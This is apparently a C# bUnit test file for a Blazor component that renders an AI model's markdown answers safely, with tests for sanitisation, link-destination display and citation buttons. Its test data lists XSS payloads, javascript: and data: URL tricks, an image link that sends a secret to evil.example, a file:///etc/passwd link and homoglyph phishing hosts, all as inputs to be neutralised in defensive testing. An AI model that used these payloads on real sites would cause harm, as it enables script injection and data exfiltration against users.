using AdminApp.Ui.Markdown;
using AngleSharp.Dom;
using Bunit;

namespace AdminApp.Tests.Components;

/// <summary>What a model writes becomes text and a few known elements, whatever it writes.</summary>
public sealed class MarkdownTextTests : IDisposable
{
    private static readonly HashSet<string> KnownElements = new(StringComparer.OrdinalIgnoreCase)
    {
        "div", "p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "hr", "br", "strong", "em", "del", "a", "span", "button", "table", "tbody", "tr", "th", "td",
    };

    private static readonly HashSet<string> KnownAttributes = ["class", "aria-live", "aria-label", "tabindex", "start", "href", "rel", "target", "data-cite", "blazor:onclick"];

    private readonly BunitContext _context = new();
    private readonly List<int> _picked = [];
    private readonly CitationLinks _links;

    public MarkdownTextTests() => _links = new CitationLinks(_picked.Add) { Known = new HashSet<int> { 1, 2 } };

    public void Dispose() => _context.Dispose();

    [Theory]
    [InlineData("Before <script>document.title='taken over'</script> after", "<script>document.title='taken over'</script>")]
    [InlineData("<img src=\"http://evil.example/p.png\" onerror=\"alert(1)\">", "onerror")]
    [InlineData("<div onclick=\"alert(1)\">\n<iframe src=\"http://evil.example\"></iframe>\n</div>", "<iframe")]
    [InlineData("<svg/onload=alert(1)>", "<svg/onload=alert(1)>")]
    [InlineData("<style>body{display:none}</style>\n\n<form action=\"http://evil.example\"><input name=q></form>", "<form")]
    [InlineData("<!-- hidden -->\n\n<?php evil ?>\n\n<![CDATA[x]]>", "<!-- hidden -->")]
    [InlineData("![chart](http://evil.example/pixel.png?q=secret)", "chart")]
    [InlineData("![chart][c]\n\n[c]: http://evil.example/pixel.png", "chart")]
    [InlineData("[more](javascript:alert(1))", "more")]
    [InlineData("[more](JaVaScRiPt:alert(1))", "more")]
    [InlineData("[more](&#106;avascript:alert(1))", "more")]
    [InlineData("[more](java&#10;script:alert(1))", "more")]
    [InlineData("[more](data:text/html,<script>alert(1)</script>)", "more")]
    [InlineData("[more](vbscript:x) [file](file:///etc/passwd) [here](/transcripts) [there](//evil.example/a)", "there")]
    [InlineData("<javascript:alert(1)> and <data:text/html,x>", "javascript:alert(1)")]
    [InlineData("[more][m]\n\n[m]: javascript:alert(1)", "more")]
    [InlineData("[more](https://example.org \"\\\"><img src=x onerror=alert(1)>\")", "more")]
    [InlineData("[<img src=x onerror=alert(1)>](https://example.org)", "<img src=x onerror=alert(1)>")]
    [InlineData("```\"><script>alert(1)</script>\n<script>alert(1)</script>\n```", "<script>alert(1)</script>")]
    [InlineData("`<img src=x onerror=alert(1)>`", "<img src=x onerror=alert(1)>")]
    [InlineData("| <b>a</b> | ![x](http://evil.example/x.png) |\n|---|--:|\n| <script>1</script> | [x](javascript:1) |", "<script>1</script>")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>")]
    public void HostileText_IsTextAndKnownElementsAlone(string markdown, string readable)
    {
        var text = Draw(markdown);
        Assert.Contains(readable, text.Find(".chat-text").TextContent, StringComparison.Ordinal);
        AssertHarmless(text);
    }

    [Fact]
    public void TextThatNestsTooDeeply_IsPlainText()
    {
        var text = Draw(new string('>', 20_000) + " <img src=x onerror=alert(1)>");
        Assert.Contains("<img src=x onerror=alert(1)>", text.Find(".chat-text").TextContent, StringComparison.Ordinal);
        AssertHarmless(text);
    }

    [Theory]
    [InlineData("[a](https://example.org/x?y=1&z=2)", "https://example.org/x?y=1&z=2")]
    [InlineData("[a](HTTP://example.org)", "http://example.org/")]
    [InlineData("<https://example.org/page>", "https://example.org/page")]
    [InlineData("<ada@example.org>", "mailto:ada@example.org")]
    public void LinksOfTheWebAndOfMail_OpenOutside_AndTellNothingOfThePage(string markdown, string address)
    {
        var text = Draw(markdown);
        Assert.Equal(address, text.Find("a").GetAttribute("href"));
        AssertHarmless(text);
    }

    [Theory]
    [InlineData("[our page](http://evil.com/?q=secret)", "our page (evil.com)")]
    [InlineData("[https://good.example](https://evil.com)", "https://good.example (evil.com)")]
    [InlineData("[write](mailto:a@evil.com)", "write (a@evil.com)")]
    [InlineData("[x](http://good.example@evil.com/)", "x (evil.com)")]
    [InlineData("[x](https://xn--pypal-4ve.com)", "x (xn--pypal-4ve.com)")]
    [InlineData("[x](https://p\u0430ypal.com)", "x (xn--pypal-4ve.com)")]
    [InlineData("<https://evil.com/page>", "https://evil.com/page")]
    [InlineData("[x](/transcripts)", "x")]
    public void Link_ShowsWhereItLeads(string markdown, string shown) => Assert.Equal(shown, Draw(markdown).Find("p").TextContent);

    [Fact]
    public void LongHost_ShowsItsEnd() =>
        Assert.Matches(@"^x \(….{50,60}\.evil\.com\)$", Draw($"[x](http://{string.Concat(Enumerable.Repeat("good.example.", 15))}evil.com)").Find("p").TextContent);

    [Fact]
    public void Citations_AreButtons_WhereTheyHaveASource_AndNothingWhereTheyHaveNone()
    {
        var text = Draw("Blue.[1] Red.[2] Green.[99] Old.[0] Many.[1000] | [1](https://example.org)");
        Assert.Equal(["1", "2", "1"], text.FindAll("button.chat-citation").Select(b => b.TextContent));
        Assert.DoesNotContain("99", text.Find(".chat-text").TextContent, StringComparison.Ordinal);
        text.FindAll("button.chat-citation")[1].Click();
        text.FindAll("button.chat-citation")[2].Click();
        Assert.Equal([1, 5], _picked); // by their places in the text
        AssertHarmless(text);
    }

    [Theory]
    [InlineData("One.[1] Two.[1][2]\nThree [1]\n\nFour.[2]", new[] { 0, 1, 2, 3, 4 })]
    [InlineData("`x[1]` y [1] \\[1] z [2]\n\n```\n[1]\n```\n\nend [1]", new[] { 1, 3, 5 })]
    [InlineData("# Head [1]\n\n- a [1]\n- b\n  - c **bold [2]** [1]\n\n> said [2]\n> more [1]\n\n1. x [1]", new[] { 0, 1, 2, 3, 4, 5, 6 })]
    [InlineData("| a [1] | b |\n|---|---|\n| c | d [2] |\n| e [1] | `[1]` f [2] |\n\nend [1]", new[] { 0, 1, 2, 4, 5 })]
    [InlineData("[see [1]](https://example.org) ~~old [2]~~ ünï 👍 [1]  \n\tand [2]", new[] { 0, 1, 2, 3 })]
    public void Citation_KnowsItsPlaceInTheText_WhateverMarkdownIsRoundIt(string markdown, int[] places) =>
        Assert.Equal(places, Draw(markdown).FindAll("button.chat-citation").Select(button => int.Parse(button.GetAttribute("data-cite")!, System.Globalization.CultureInfo.InvariantCulture)));

    [Fact]
    public void SelectedCitation_AloneLightsUp_AmongThoseOfOneNumber()
    {
        _links.Selected = 1;
        var text = Draw("One.[2] Two.[2] Three.[2]");
        Assert.Equal([false, true, false], text.FindAll("button.chat-citation").Select(button => button.ClassList.Contains("on")));
    }

    [Fact]
    public void MarkdownOfAnAnswer_IsDrawnAsSuch()
    {
        var text = Draw("# Head\n\nA **bold** *soft* ~~old~~ `x` line.\n\n3. three\n4. four\n\n> said\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n---");
        Assert.Equal("Head", text.Find("h3").TextContent);
        Assert.Equal(("bold", "soft", "old", "x"), (text.Find("strong").TextContent, text.Find("em").TextContent, text.Find("del").TextContent, text.Find("p code").TextContent));
        Assert.Equal("3", text.Find("ol").GetAttribute("start"));
        Assert.Equal("said", text.Find("blockquote").TextContent);
        Assert.Equal(["2"], text.FindAll("td.ui-number").Select(cell => cell.TextContent));
        AssertHarmless(text);
    }

    [Fact]
    public void FinishedBlocks_AreNotDrawnAgain_WhenTheTextGrows()
    {
        const string Finished = "It was left out **on cost**.[1]\n\n- one [2]\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n";
        const string Last = "Later it was more or less ruled out, and nobody came back to it.[1]";
        var text = Draw(Finished + Last[..10]);
        var blocks = text.FindComponents<MarkdownBlock>();
        Assert.Equal(4, blocks.Count);
        for (var length = 11; length <= Last.Length; length++)
        {
            text.Render(parameters => parameters.Add(t => t.Source, new MarkdownSource(Finished + Last[..length])));
        }

        Assert.Equal([1, 1, 1], blocks.Take(3).Select(block => block.RenderCount));
        Assert.Equal(1 + Last.Length - 10, blocks[3].RenderCount);
        Assert.EndsWith("nobody came back to it.1", text.Find(".chat-text").TextContent, StringComparison.Ordinal);

        // Another citation is selected: each block looks different now.
        _links.Selected = 1;
        text.Render(parameters => parameters.Add(t => t.Source, new MarkdownSource(Finished + Last)));
        Assert.Equal([2, 2, 2], blocks.Take(3).Select(block => block.RenderCount));
        Assert.Equal("2", text.Find(".chat-citation.on").TextContent);
    }

    private IRenderedComponent<MarkdownText> Draw(string markdown) =>
        _context.Render<MarkdownText>(parameters => parameters.Add(t => t.Source, new MarkdownSource(markdown)).Add(t => t.Citations, _links));

    private static void AssertHarmless(IRenderedComponent<MarkdownText> text)
    {
        foreach (var element in text.Nodes.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, KnownElements);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, KnownAttributes));
            if (element.LocalName == "a")
            {
                Assert.Matches("^(https?://|mailto:)", element.GetAttribute("href"));
                Assert.Equal(("noopener noreferrer nofollow ugc", "_blank"), (element.GetAttribute("rel"), element.GetAttribute("target")));
            }
        }
    }
}
